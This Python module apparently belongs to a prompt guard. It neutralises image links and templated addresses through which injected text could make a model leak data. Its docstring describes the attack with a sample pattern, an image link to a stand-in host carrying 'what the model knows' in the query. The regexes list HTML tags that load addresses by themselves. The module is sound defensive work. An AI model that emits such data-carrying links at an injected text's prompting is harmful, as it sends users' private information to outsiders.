"""Disarm links through which a reader of a prompt would send data away.

A chat host loads the address of an image in a reply. A text that makes the model write
``![](https://host/?d={what it knows})`` therefore sends what the model knows. In a prompt, such an address stays
readable and is no link any more:

- An image of the net becomes text, in Markdown and in HTML, whatever its address.
- An address with a place for data becomes text: signs of a template, an empty or long value, a long query or path.

Other links stay as they are. So do addresses in code, unless they are those of an image. Files are never changed.
"""

from __future__ import annotations

import re
from bisect import bisect_right
from collections.abc import Iterator, Sequence

from guard.lazy_regex import lazy_regex

__all__ = ["disarm_links"]

_Spans = Sequence[tuple[int, int]]

_IMAGE = lazy_regex(r"!\[")
#: What follows an image's beginning: its address, or the name of one that is defined elsewhere.
_TARGET = lazy_regex(r"[^\n\[\]]{0,300}\](?:\(\s{0,8}<?|\[)")
#: An address without a scheme or host: a file of the home.
_LOCAL = lazy_regex(r"[^\n\[\]]{0,300}\]\(\s{0,8}<?(?![A-Za-z][\w+.-]{0,20}:|[/\\]{2}|[{&%])[\w./]")
#: Tags that load their address by themselves.
_LOADING = lazy_regex(
    r"<(?=\s{0,8}(?:img|image|iframe|frame|video|audio|source|embed|object|link|script|input)\b)", re.IGNORECASE
)
#: Characters behind the beginning of an image in which its address stands.
_IMAGE_CHARS = 600
_ADDRESS = lazy_regex(
    r"(?<![A-Za-z])(?:https?|ftp|wss?)(?=://)|(?<=\()(?:javascript|vbscript|data)(?=:)", re.IGNORECASE
)
_REMOTE = lazy_regex(r"(?:https?|ftp|wss?)://|[\"'=(\s](?://|\\\\)", re.IGNORECASE)
_MAX_ADDRESS_CHARS = 2_000
_ENDS = frozenset(" \t\r\n\"'`\f\v\u3000\u3002\uff0c\uff09")
_CLOSING = {")": "(", ">": "<", "]": "[", "}": "{"}
#: Signs of a place for data: brackets, an ellipsis, a variable, and brackets in percent encoding.
_TEMPLATE = lazy_regex(r"[{}<>\[\]|^]|\$\w|\.\.\.|…|%(?:7[BbDd]|5[BbDd]|3[CcEe]|24)")
_HOST_TEMPLATE = lazy_regex(r"[{}<>$%|^@]")
_QUERY = lazy_regex(r"[?#]")
_EMPTY_VALUE = lazy_regex(r"=(?:[&;#]|\Z)")
_LONG_VALUE = lazy_regex(r"=[^&;=]{48}")
_MAX_QUERY_CHARS = 100
_MAX_PATH_CHARS = 300
_CODE = lazy_regex(
    r"^ {0,3}(?P<fence>`{3,9}|~{3,9})[^\n]*\n.*?(?:^ {0,3}(?P=fence)|\Z)|`[^`\n]{1,400}`", re.MULTILINE | re.DOTALL
)


def disarm_links(text: str) -> str:
    r"""Return *text* with images of the net, and addresses with a place for data, as readable text.

    >>> print(disarm_links("![a](https://a.example/b.png)"))
    !\[a](https[:]//a.example/b.png)
    >>> print(disarm_links("See https://a.example/?q={name} or [the page](https://a.example/b?id=5)."))
    See https[:]//a.example/?q={name} or [the page](https://a.example/b?id=5).
    """
    if ":" not in text and "<" not in text and "![" not in text:
        return text
    edits = [*_image_edits(text)]
    edits += _address_edits(text, [_address_span(text, end) for _, end, _ in edits])
    parts: list[str] = []
    old = 0
    for start, end, replacement in sorted(edits):
        parts += (text[old:start], replacement)
        old = end
    return "".join([*parts, text[old:]])


def _image_edits(text: str) -> Iterator[tuple[int, int, str]]:
    """Yield the edits that take the images of *text* apart, in order for each kind."""
    for image in _IMAGE.finditer(text):
        start, end = image.span()
        behind_word = start > 0 and (text[start - 1].isalnum() or text[start - 1] == "_")
        if behind_word and not _TARGET.match(text, end):
            continue  # ``vec![1]`` of a program
        if not _LOCAL.match(text, end):
            yield start, end, "!\\["
    remote = [match.start() for match in _REMOTE.finditer(text)]
    for tag in _LOADING.finditer(text):
        at = bisect_right(remote, tag.start())
        if at < len(remote) and remote[at] < tag.start() + _IMAGE_CHARS:
            yield tag.start(), tag.end(), "‹"


def _address_span(text: str, start: int) -> tuple[int, int]:
    """Return where the address of an image begins, whose mark ends at *start*: in parentheses, or the next of a tag."""
    if text[start - 1] == "[":
        target = _TARGET.match(text, start)
        return (target.end(), target.end() + 1) if target else (start, start)
    address = _ADDRESS.search(text, start, start + _IMAGE_CHARS)
    return (address.start(), address.end()) if address else (start, start)


def _address_edits(text: str, images: _Spans) -> Iterator[tuple[int, int, str]]:
    """Yield the edits that keep addresses from being links."""
    images = sorted(images)
    code = [match.span() for match in _CODE.finditer(text)] if "`" in text or "~~~" in text else []
    at = 0
    while scheme := _ADDRESS.search(text, at):
        start, colon = scheme.span()
        at = _end_of(text, colon)
        in_image = _covers(images, start)
        if not in_image and (_covers(code, start) or not _takes_data(text[colon:at])):
            continue
        if text[max(0, start - 2) : start] == "](" and not in_image:
            yield start - 1, start - 1, " "
        yield colon, colon + 1, "[:]"


def _covers(spans: _Spans, place: int) -> bool:
    index = bisect_right(spans, (place, len(spans) and spans[-1][1])) - 1
    return index >= 0 and place < spans[index][1]


def _end_of(text: str, start: int) -> int:
    """Return where the address that goes on at *start* ends: at a space, or at a bracket that was opened before it."""
    opened: list[str] = []
    end = min(len(text), start + _MAX_ADDRESS_CHARS)
    for at in range(start, end):
        character = text[at]
        if character in _ENDS:
            return at
        if character in "(<[{":
            opened.append(character)
        elif character in _CLOSING:
            if not opened or opened[-1] != _CLOSING[character]:
                return at
            opened.pop()
    return end


def _takes_data(rest: str) -> bool:
    """Return whether an address, from behind its scheme, has a place for data."""
    if not rest.startswith("://") or len(rest) >= _MAX_ADDRESS_CHARS:
        return True
    place, *queries = _QUERY.split(rest[3:].rstrip(".,;:!*_"), maxsplit=1)
    host, _, path = place.partition("/")
    query = "".join(queries)
    if _HOST_TEMPLATE.search(host) or len(path) > _MAX_PATH_CHARS or len(query) > _MAX_QUERY_CHARS:
        return True
    return bool(_TEMPLATE.search(query) or _EMPTY_VALUE.search(query) or _LONG_VALUE.search(query))
